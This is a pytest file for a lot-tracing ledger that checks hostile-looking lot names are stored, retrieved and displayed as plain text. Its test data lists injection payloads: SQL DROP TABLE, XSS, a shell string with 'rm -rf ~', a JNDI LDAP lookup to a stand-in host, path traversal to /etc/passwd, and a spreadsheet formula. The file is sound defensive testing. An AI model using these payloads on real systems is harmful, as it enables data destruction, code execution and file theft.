"""Names that look like an attack, or come from another script, are names: kept as told, found again, shown harmlessly.

Only control characters are refused (see the table). What a database, a shell, a page or a terminal could take for an
instruction goes in and comes out as the text that it is.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote

import pytest

from tests.surfaces.bad_input_surfaces import Standing, command, standing, unseen_in
from tests.surfaces.bad_inputs import receipt
from thread.values.names import own_lot

ODD: Final = {
    "SQL": "Robert'); DROP TABLE entries;--",
    "a comment of SQL": "S-77' -- ",
    "a wildcard": "%_*?",
    "HTML": "<script>alert('S-77')</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "a shell": "$(rm -rf ~); `id` | cat && :",
    "a format": "%s %n {0.__class__} ${jndi:ldap://x/a}",
    "a template": "{{7*7}}[bold]S-77[/bold]",
    "a path": "../../../etc/passwd",
    "a path of Windows": r"..\..\C:\CON",
    "a drive": "C:NUL",
    "an option": "--ledger=other.db",
    "a formula": '=HYPERLINK("http://x","S-77")',
    "JSON": '{"lot":"S-77"}',
    "a key and its number": "key#0",
    "a second life": "S-77~2",
    "percent signs": "100%25%ZZ%",
    "slashes": "//a//b//",
    "a link": "S-77?x=1#y",
    "brackets": "S-77 (ACME)",
    "quotes": "'\"`\u201c\u2019",
    "a backslash at the end": "S-77\\",
    "German": "Größe 7½ µm",
    "Chinese": "批次-七七",
    "Arabic": "دفعة-٧٧",
    "Hebrew and Latin": "אצווה S-77 ב",
    "Thai": "ล็อต๗๗",
    "a smiley": "lot 😀",
    "a family": "lot 👩‍👩‍👧‍👦",
    "a flag": "lot 🇳🇴",
    "combined signs": "e\u0301\u0323 A\u030a",
    "many combined signs": "Z" + "\u0335\u0321" * 60,
    "a ligature": "ﬁnal",
    "a joiner of no width": "S\u200d77",
    "a mark of direction": "S\u202e77-F",
    "an isolate of direction": "S\u206777\u2069",
    "a space of no break": "S\u00a077",
    "a line separator": "S\u202877",
    "beyond the basic plane": "𝐒-𝟕𝟕",
    "a private character": "S\ue00077",
    "no character": "S\ufffe77",
    "200 letters": "L" * 200,
    "60 smileys": "😀" * 60,
    "a dot": "S-77.",
}  # fmt: skip


@pytest.fixture(scope="module")
def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Standing]:
    with standing(tmp_path_factory.mktemp("plant")) as made:
        yield made


@pytest.mark.requirement("SEC-3")
@pytest.mark.parametrize("code", ODD.values(), ids=ODD)
def test_an_odd_name_is_kept_found_by_every_way_in_and_shown_without_moving_a_cursor(
    plant: Standing, code: str
) -> None:
    name = own_lot("plant.example", "P1", "https://plant.example/item/ODD", code)
    told = receipt(item="ODD", lot=code, note=f"<b>{code}</b>", event_time="2026-03-03T08:00:00+01:00")

    recorded = plant.http.post("/v1/events", json=told)
    over_http = plant.http.get(f"/v1/lots/{quote(name, safe='')}")
    card = command("--ledger", str(plant.database), "lot", "--", code)
    table = command("--ledger", str(plant.database), "trace", "--table", "--", name)

    assert recorded.status_code == 201, recorded.text
    assert over_http.status_code == 200, over_http.text
    assert over_http.json()["lot"] == unicodedata.normalize("NFC", code).strip()
    assert plant.ledger.resolve_lot(code) == plant.ledger.resolve_lot(name) == name
    for ran in (card, table):
        assert (ran.status, ran.err) == (0, "")
        assert not unseen_in(ran.out)
        assert not any(0x200E <= ord(sign) <= 0x200F or 0x2028 <= ord(sign) <= 0x202E for sign in ran.out)


def test_all_of_them_together_leave_a_ledger_that_verifies_rebuilds_and_comes_out_again(plant: Standing) -> None:
    before = plant.ledger.lots(limit=1_000).as_json()

    plant.ledger.rebuild()

    assert plant.ledger.lots(limit=1_000).as_json() == before
    assert plant.ledger.verify().ok
    assert command("--ledger", str(plant.database), "export").status == 0


def test_the_uri_of_somebody_else_may_encode_what_it_likes(plant: Standing) -> None:
    names = (
        "https://plant.example/site/P1/lot/%ZZ",
        "https://plant.example/site/P1/lot/STEEL/%FF",
        "https://supplier.example/lot/%",
        "urn:acme:lot:%E0%A4",
        "https://id.gs1.org/01/09506000134352/10/%ZZ",
    )

    for number, name in enumerate(names):
        told = receipt(lot=name, event_time=f"2026-03-04T08:00:0{number}+01:00")
        assert plant.http.post("/v1/events", json=told).status_code == 201
        assert plant.ledger.lot(name)["id"] == name
        assert command("--ledger", str(plant.database), "trace", name).status == 0

    plant.ledger.rebuild()

    assert plant.ledger.verify().ok
